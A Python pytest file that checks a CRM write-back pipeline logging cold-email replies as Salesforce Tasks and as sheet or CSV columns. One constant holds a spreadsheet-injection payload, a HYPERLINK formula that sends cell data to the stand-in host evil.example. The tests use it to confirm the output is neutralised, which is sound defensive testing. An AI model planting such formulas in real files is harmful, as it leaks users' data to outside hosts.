"""Replies logged in the CRM by the write-back: Salesforce Tasks, sheet and CSV columns, events."""

from __future__ import annotations

import csv
import time
from pathlib import Path
from typing import Any

import pytest
from prefect import get_client
from prefect.events.filters import EventFilter, EventNameFilter, EventResourceFilter
from prefect.events.schemas.events import ReceivedEvent

from connectors.activities import activity_key
from flows.replies import LEAD_REPLIED, REPLY_UNMATCHED, create_follow_up_task
from flows.sync import sync_leads_to_campaign
from flows.write_back import write_back_statuses
from sandbox.salesforce.db import SANDBOX_USER_ID
from tests._stack import Stack
from tests.flows._helpers import admin_client, artifacts, run_flow

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
OWNER = "005000000000042AAA"


def emails(count: int) -> list[str]:
    return [f"rp{i}@example.com" for i in range(count)]


def lead_events(
    name: str, campaign_id: str, *, expect: int, timeout: float = 20.0
) -> list[ReceivedEvent]:
    """Events named `name` about leads of one campaign (polled: events arrive asynchronously)."""
    deadline = time.monotonic() + timeout
    while True:
        event_filter = EventFilter(
            event=EventNameFilter(name=[name]),
            resource=EventResourceFilter(labels={"coldsend.campaign.id": [campaign_id]}),
        )
        with get_client(sync_client=True) as client:
            events = list(client.read_events(filter=event_filter, limit=50).events)
        if len(events) >= expect or time.monotonic() > deadline:
            return events
        time.sleep(0.3)


def tasks(stack: Stack) -> list[dict[str, Any]]:
    return stack.salesforce.records("Task")


def write_back(stack: Stack, campaign_id: str, store: str, **kwargs: Any) -> Any:
    return write_back_statuses(
        campaign_id=campaign_id, lead_store=store, coldsend=stack.coldsend_block, **kwargs
    )


def test_salesforce_replies_become_tasks_once_and_the_rest_is_reported(stack: Stack) -> None:
    records = [
        {"Email": e, "FirstName": "F", "LastName": f"L{i}", "Company": "Acme", "OwnerId": OWNER}
        for i, e in enumerate(emails(6))
    ]
    ids = stack.salesforce.insert(records)
    store = stack.salesforce_store()
    campaign_id = stack.new_campaign()
    assert (
        sync_leads_to_campaign(
            campaign_id=campaign_id, lead_store=store, coldsend=stack.coldsend_block
        ).uploaded
        == 6
    )
    with admin_client(stack) as admin:
        # A lead added by hand in ColdSend (no CRM record), and one another store synced (its
        # record id is a sheet key: that store's write-back logs its replies).
        admin.add_lead(campaign_id, email="walk-in@example.com")
        admin.add_lead(
            campaign_id, email="from-a-sheet@example.com", custom_fields={"crm_record_id": "row-7"}
        )
    add = stack.coldsend.add_reply
    add(campaign_id, emails(6)[0], "Yes, call me.", received_at="2026-03-01T09:00:00Z")
    add(
        campaign_id,
        emails(6)[1],
        FORMULA,
        subject="Re: pricing",
        received_at="2026-03-01T10:00:00Z",
    )
    add(
        campaign_id,
        emails(6)[2],
        "Deleted before we logged it.",
        received_at="2026-03-01T11:00:00Z",
    )
    add(campaign_id, "walk-in@example.com", "Who are you?", received_at="2026-03-01T12:00:00Z")
    add(campaign_id, "from-a-sheet@example.com", "Hi!", received_at="2026-03-01T13:00:00Z")
    stack.salesforce.delete(ids[2])
    stack.coldsend.reset_stats()

    run = run_flow(
        write_back_statuses,
        campaign_id=campaign_id,
        lead_store=store,
        coldsend=stack.coldsend_block,
    )

    replies = run.result.replies
    assert (replies.replied_leads, replies.pending, replies.read, replies.deferred) == (5, 5, 5, 0)
    assert replies.skipped == 1  # the other store's lead
    assert (replies.logged, replies.already_logged, replies.no_record, replies.failed) == (
        2,
        0,
        2,
        0,
    )
    # The export, one listing page and one read per replied lead.
    assert stack.coldsend.stats()["total"] == 1 + 1 + 5
    logged = {t["WhoId"]: t for t in tasks(stack)}
    assert set(logged) == {ids[0], ids[1]}
    task = logged[ids[1]]
    assert task["Subject"] == "Reply: Re: pricing"
    assert task["Description"].startswith(FORMULA)  # text stays text in a CRM field
    assert (task["Status"], task["TaskSubtype"], task["OwnerId"]) == ("Completed", "Email", OWNER)
    assert task["ActivityDate"] == "2026-03-01"
    assert task["ColdSend_Reply_Id__c"].startswith("coldsend-reply:")
    # One event per reply logged; one per reply without a record; a table naming those.
    replied = lead_events(LEAD_REPLIED, campaign_id, expect=2)
    assert sorted(e.payload["email"] for e in replied) == emails(6)[:2]
    one = next(e for e in replied if e.payload["email"] == emails(6)[1])
    assert one.payload["crm_record"] == ids[1] and one.payload["text"] == FORMULA
    assert one.resource["coldsend.crm.record"] == ids[1]
    unmatched = lead_events(REPLY_UNMATCHED, campaign_id, expect=2)
    assert sorted(e.payload["email"] for e in unmatched) == [emails(6)[2], "walk-in@example.com"]
    made = {a.key: a for a in artifacts(run.flow_run_id)}
    (table,) = [a for k, a in made.items() if k and k.endswith("without-record")]
    assert "walk-in@example.com" in str(table.data) and "Who are you?" in str(table.data)
    (summary,) = [a for k, a in made.items() if k and k.endswith("summary")]
    assert "| activities logged now | 2 |" in str(summary.data)
    assert "| replies without a record in the store | 2 |" in str(summary.data)

    # Again, nothing new: one listing, no lead read, no Task written.
    stack.coldsend.reset_stats()
    stack.salesforce.reset_stats()
    again = write_back(stack, campaign_id, store).replies
    assert (again.pending, again.read, again.logged) == (0, 0, 0)
    assert stack.coldsend.stats()["total"] == 1 + 1
    assert not [r for r in stack.salesforce.stats()["requests"] if "composite" in r]

    # A reply arriving between runs: only that lead is read, one Task more.
    add(campaign_id, emails(6)[0], "Actually, make it Friday.", received_at="2026-03-02T09:00:00Z")
    stack.coldsend.reset_stats()
    later = write_back(stack, campaign_id, store).replies
    assert (later.pending, later.read, later.logged, later.already_logged) == (1, 1, 1, 1)
    assert stack.coldsend.stats()["total"] == 1 + 1 + 1
    assert len(tasks(stack)) == 3
    keys = [t["ColdSend_Reply_Id__c"] for t in tasks(stack)]
    assert len(set(keys)) == 3


def test_a_lost_cursor_rereads_but_never_logs_twice(stack: Stack) -> None:
    from prefect.variables import Variable

    from flows.replies import reply_cursor_name

    stack.salesforce.insert([{"Email": e, "LastName": "L", "Company": "C"} for e in emails(3)])
    store = stack.salesforce_store()
    campaign_id = stack.new_campaign()
    sync_leads_to_campaign(campaign_id=campaign_id, lead_store=store, coldsend=stack.coldsend_block)
    for email in emails(3):
        stack.coldsend.add_reply(campaign_id, email, f"hello from {email}")
    assert write_back(stack, campaign_id, store).replies.logged == 3
    Variable.unset(reply_cursor_name(store, campaign_id))
    again = write_back(stack, campaign_id, store).replies
    assert (again.read, again.logged, again.already_logged) == (3, 0, 3)
    assert len(tasks(stack)) == 3


def test_sends_are_logged_only_when_asked(stack: Stack) -> None:
    stack.salesforce.insert([{"Email": e, "LastName": "L", "Company": "C"} for e in emails(40)])
    store = stack.salesforce_store()
    campaign_id = stack.new_campaign()
    sync_leads_to_campaign(campaign_id=campaign_id, lead_store=store, coldsend=stack.coldsend_block)
    with admin_client(stack) as admin:
        from tests.flows._helpers import new_inbox

        inbox = new_inbox(stack, f"sales-{stack.tag}@example.com")
        admin.update_campaign(
            campaign_id,
            inbox_ids=[inbox],
            variants=[
                {
                    "variant_name": "A",
                    "subject_template": "Quick question",
                    "email_content": "Hello {{first_name}}, a short note.",
                    "distribution_percent": 100,
                }
            ],
        )
        admin.launch_campaign(campaign_id)
    stack.coldsend.advance(steps=6)  # simulated sending: some leads reply, with text
    report = write_back(stack, campaign_id, store, log_sends=True).replies
    assert report.read >= 1
    subjects = [t["Subject"] for t in tasks(stack)]
    sent = [s for s in subjects if s.startswith("Email: ")]
    received = [s for s in subjects if s.startswith("Reply: ")]
    assert len(sent) == len(received) == report.read
    assert all(s == "Email: Quick question" for s in sent)


@pytest.mark.parametrize("kind", ["sheet", "csv"])
def test_last_reply_columns_in_a_sheet_and_a_csv_file(
    stack: Stack, tmp_path: Path, kind: str
) -> None:
    header = ["Email", "First Name", "Last Name", "Company"]
    rows = [header] + [[e, "F", f"L{i}", "Acme"] for i, e in enumerate(emails(4))]
    path = tmp_path / "leads.csv"
    spreadsheet = ""
    if kind == "sheet":
        spreadsheet = stack.sheets.create_spreadsheet(sheets={"Sheet1": rows})
        store = stack.sheet_store(spreadsheet)
    else:
        with path.open("w", newline="", encoding="utf-8") as handle:
            csv.writer(handle).writerows(rows)
        store = stack.csv_store(path)
    campaign_id = stack.new_campaign()
    sync_leads_to_campaign(campaign_id=campaign_id, lead_store=store, coldsend=stack.coldsend_block)

    def table() -> dict[str, dict[str, str]]:
        if kind == "sheet":
            got = [[str(c) for c in row] for row in stack.sheets.values(spreadsheet)]
        else:
            with path.open(encoding="utf-8", newline="") as handle:
                got = list(csv.reader(handle))
        head = got[0]
        return {
            row[0]: dict(zip(head, row + [""] * (len(head) - len(row)), strict=True))
            for row in got[1:]
        }

    add = stack.coldsend.add_reply
    add(campaign_id, emails(4)[0], "First answer", received_at="2026-04-01T08:00:00Z")
    add(campaign_id, emails(4)[0], "Second answer", received_at="2026-04-02T08:00:00Z")
    add(campaign_id, emails(4)[1], FORMULA, received_at="2026-04-01T09:30:00Z")

    report = write_back(stack, campaign_id, store).replies
    assert (report.logged, report.skipped, report.no_record, report.failed) == (2, 1, 0, 0)
    got = table()
    assert got[emails(4)[0]]["Last reply"] == "Second answer"
    assert got[emails(4)[0]]["Last reply at"] == "2026-04-02T08:00:00Z"
    # CSV files are opened in spreadsheet programs: the formula gets a leading quote. The
    # sheet is written RAW, so Sheets stores the text as text (never a formula).
    assert got[emails(4)[1]]["Last reply"] == ("'" + FORMULA if kind == "csv" else FORMULA)
    assert got[emails(4)[2]]["Last reply"] == ""

    add(campaign_id, emails(4)[2], "Late but keen", received_at="2026-04-03T08:00:00Z")
    later = write_back(stack, campaign_id, store).replies
    assert (later.read, later.logged) == (1, 1)
    assert table()[emails(4)[2]]["Last reply"] == "Late but keen"


def test_follow_up_flow_creates_one_task_for_the_owner(stack: Stack) -> None:
    (record,) = stack.salesforce.insert(
        [{"Email": "boss@example.com", "LastName": "Boss", "Company": "C", "OwnerId": OWNER}]
    )
    store = stack.salesforce_store()
    key = activity_key("reply", "r-123")
    params: dict[str, Any] = {
        "lead_store": store,
        "reply_key": key,
        "crm_record": record,
        "email": "boss@example.com",
        "campaign_id": "c-1",
        "lead_id": "l-1",
        "subject": "Re: hi",
        "text": "Call me",
    }
    first = create_follow_up_task(**params)
    second = create_follow_up_task(**params)
    assert first.created and not second.created and first.task_id == second.task_id
    (task,) = tasks(stack)
    assert task["Status"] == "Not Started" and task["OwnerId"] == OWNER and task["WhoId"] == record
    assert task["Subject"] == "Follow up: boss@example.com replied (Re: hi)"
    assert "Call me" in task["Description"]
    stack.salesforce.delete(record)
    gone = run_flow(create_follow_up_task, **{**params, "reply_key": activity_key("reply", "r-2")})
    assert gone.state.is_failed() and "not in" in str(gone.state.message)


def test_unowned_records_leave_the_task_to_the_default_owner(stack: Stack) -> None:
    stack.salesforce.insert([{"Email": emails(1)[0], "LastName": "L", "Company": "C"}])
    store = stack.salesforce_store()
    campaign_id = stack.new_campaign()
    sync_leads_to_campaign(campaign_id=campaign_id, lead_store=store, coldsend=stack.coldsend_block)
    stack.coldsend.add_reply(campaign_id, emails(1)[0], "ok")
    assert write_back(stack, campaign_id, store).replies.logged == 1
    (task,) = tasks(stack)
    assert task["OwnerId"] == SANDBOX_USER_ID
